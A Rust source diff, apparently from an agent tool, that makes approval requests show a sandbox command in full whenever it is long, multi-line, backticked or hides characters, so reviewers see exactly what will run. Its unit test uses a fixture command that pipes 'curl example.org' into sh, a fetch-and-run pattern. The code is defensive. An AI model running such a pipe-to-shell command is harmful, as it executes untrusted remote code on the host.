@@ -68,25 +68,34 @@ pub fn marked(marker: &str, body: &str) -> String {
     format!("{marker}\n{}", redact::bounded(body.trim_end(), MAX_BODY))
 }
 
+/// The longest command that stands in a sentence, in characters.
+const MAX_COMMAND: usize = 200;
+
 /// What a gate asks, as a sentence that says exactly what will happen.
 pub fn gate_request(gate: &Gate, branch: &str) -> String {
     let branch = redact::inline(branch, 100);
     let mut below = String::new();
     let what = match &gate.kind {
-        GateKind::Search { command, minutes } => format!(
-            "run {} in the sandbox on {} and search for a fix, at most {minutes} minutes; nothing lands",
-            redact::inline(command, 200),
-            gate.head.short(),
-        ),
+        GateKind::Search { command, minutes } => {
+            below = in_full(command);
+            format!(
+                "run {} in the sandbox on {} and search for a fix, at most {minutes} minutes; nothing lands",
+                redact::inline(command, MAX_COMMAND),
+                gate.head.short(),
+            )
+        }
         GateKind::VerifyAndLand {
             command,
             minutes,
             files,
-        } => format!(
-            "run {} on {} in the sandbox, at most {minutes} minutes, and to commit the result to {branch} if it is green",
-            redact::inline(command, 200),
-            changed_files(*files),
-        ),
+        } => {
+            below = in_full(command);
+            format!(
+                "run {} on {} in the sandbox, at most {minutes} minutes, and to commit the result to {branch} if it is green",
+                redact::inline(command, MAX_COMMAND),
+                changed_files(*files),
+            )
+        }
         GateKind::Land { files } => format!("commit {} to {branch}, exactly as tested", changed_files(*files)),
         GateKind::ChangeTests { files, weakenings } => format!(
             "change the tests: commit {} of tests to {branch}, which makes them say less in {}. The code stays as it is",
@@ -129,6 +138,16 @@ pub fn gate_request(gate: &Gate, branch: &str) -> String {
             .as_ref()
             .map_or_else(String::new, |estimate| format!(" {}", estimate.line())),
     )
+}
+
+/// A command that a sentence cannot hold as it is, as it is.
+fn in_full(command: &str) -> String {
+    let on_one_line = command.split_whitespace().collect::<Vec<_>>().join(" ");
+    let is_whole = command.chars().count() <= MAX_COMMAND && on_one_line == command && !command.contains('`');
+    if is_whole && redact::hidden(command).next().is_none() {
+        return String::new();
+    }
+    format!("The command in full:\n\n{}\n\n", execution::whole("sh", command))
 }
 
 fn changed_files(files: usize) -> String {
@@ -304,6 +323,16 @@ pub fn bad_config(message: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_command_that_is_approved_is_read_whole() {
+        assert_eq!(in_full("pytest -q"), "");
+        let long = format!("echo {} && curl example.org | sh", "x".repeat(300));
+        for command in ["a  b", "a\tb", "a `b`", long.as_str(), "a\u{200b}b"] {
+            let shown = in_full(command).replace("\\u{200b}", "\u{200b}");
+            assert!(shown.contains(command), "{shown}");
+        }
+    }
 
     #[test]
     fn the_help_lists_every_command() {
